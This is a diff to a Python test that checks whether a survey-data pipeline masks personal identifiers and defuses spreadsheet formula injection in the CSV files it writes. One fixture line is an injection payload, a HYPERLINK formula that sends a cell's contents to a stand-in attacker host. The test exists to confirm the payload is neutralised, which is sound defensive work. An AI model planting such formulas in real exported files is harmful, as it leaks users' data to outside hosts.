@@ -220,7 +220,7 @@ def test_processed_data_holds_no_identifier_and_no_formula(project, monkeypatch)
     monkeypatch.setenv("CXLAB_ROOT", str(project))
     monkeypatch.setenv("CXLAB_SECRET", "t" * 64)
     texts = ["Jan Kok here, mail jan(at)example.com", "IBAN NL91 ABNA 0417 1643 00 please",
-             "my number is C018471, call +31 20 123 4567", "Ann de Vries: a.devries [at] example [dot] com",
+             "my number is C999999, call +31 20 123 4567", "Ann de Vries: a.devries [at] example [dot] com",
              "fine, 4 stars on 2025-06-02 10:15"]
     formula = '=HYPERLINK("http://evil.example/?leak="&A1)'
 
@@ -240,23 +240,24 @@ def test_processed_data_holds_no_identifier_and_no_formula(project, monkeypatch)
     survey = pd.read_parquet(prepared.survey)
     assert "contact" not in survey.columns and "full_name" not in survey.columns and "region" in survey.columns
     comments = survey["comment"].dropna().unique().tolist()
-    assert sorted(set(comments)) == sorted({
-        "[identifier] here, mail [e-mail]", "IBAN [IBAN] please", "my number is [customer id], call [phone]",
-        "[identifier]: [e-mail]", "fine, 4 stars on 2025-06-02 10:15"} | {c for c in comments if "[identifier]" in c})
+    assert set(comments) == {"[identifier] here, mail [e-mail]", "IBAN [IBAN] please",
+                             "my number is [customer id], call [phone]", "[identifier]: [e-mail]",
+                             "fine, 4 stars on 2025-06-02 10:15"}
     everything = survey.astype(str).to_csv()
-    for leak in ("@example", "(at)", "[at]", "NL91", "Jan Kok", "Ann de Vries", "4567", "C018471"):
+    for leak in ("@example", "(at)", "[at]", "NL91", "Jan Kok", "Ann de Vries", "123 4567", "C999999"):
         assert leak not in everything, leak
     assert "premium [e-mail]" in set(survey["segment"])
     quality = pd.read_csv(prepared.directory / "quality.csv", dtype=str, keep_default_na=False)
     noted = quality.set_index("column")["problem"].to_dict()
     assert noted["contact"] == "undeclared_identifier (e-mail)" and noted["segment"] == "undeclared_identifier (e-mail)"
+    cells = {}
     for name in ("dictionary.csv", "quality.csv", "contact_problems.csv"):
         with open(prepared.directory / name, newline="", encoding="utf-8") as fh:
-            cells = [cell for row in csv.reader(fh) for cell in row]
-        risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
+            cells[name] = [cell for row in csv.reader(fh) for cell in row]
+        risky = [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t", "\r")
                  or (c[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))]
         assert risky == [], (name, risky)
-    assert "'" + formula in (prepared.directory / "dictionary.csv").read_text()
+    assert "'" + formula in cells["dictionary.csv"]  # the column name, neutralised
 
 
 # ============================================================================ identifier corpus
